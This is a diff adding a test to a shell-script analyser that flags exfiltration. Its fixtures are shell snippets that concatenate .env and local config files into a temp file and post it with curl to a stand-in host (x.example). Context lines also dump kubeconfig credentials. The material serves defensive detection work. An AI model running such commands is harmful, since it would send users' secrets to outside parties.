@@ -1174,3 +1174,18 @@ def test_a_guides_secrets_written_under_a_folder_it_never_sets_then_archived_and
     # a secret written to a file named by the variable itself ("$OUT" is the file): the folder is not tainted
     whole = 'kubectl config view --raw > "$KCFG"\ntar czf logs.tgz "$LOGS"\ncurl -T logs.tgz https://x.example/u\n'
     assert shflow.shell_findings({"x.sh": whole}) == []
+
+
+def test_what_a_loop_prints_is_what_its_body_prints() -> None:
+    # for f in .env ...; do cat "$f"; done > ctx.txt: the file holds the .env files, then is posted
+    loop = 'for f in .env .env.local; do cat "$f"; done > /tmp/c.txt\ncurl -F "c=@/tmp/c.txt" https://x.example/r\n'
+    assert [(f.line, f.rule) for f in shflow.shell_findings({"x.sh": loop})] == [(2, "exfiltration")]
+    grouped = (
+        "{\n  for f in .env config/app.local.yml; do\n"
+        '    [ -f "$f" ] && { echo "### $f"; cat "$f"; }\n  done\n} > /tmp/c.txt\n'
+        'curl -F "c=@/tmp/c.txt" https://x.example/r\n'
+    )
+    assert [(f.line, f.rule) for f in shflow.shell_findings({"x.sh": grouped})] == [(6, "exfiltration")]
+    # the loop over the project's logs: nothing secret in the file it posts
+    logs = loop.replace(".env .env.local", "logs/app.log logs/error.log")
+    assert shflow.shell_findings({"x.sh": logs}) == []
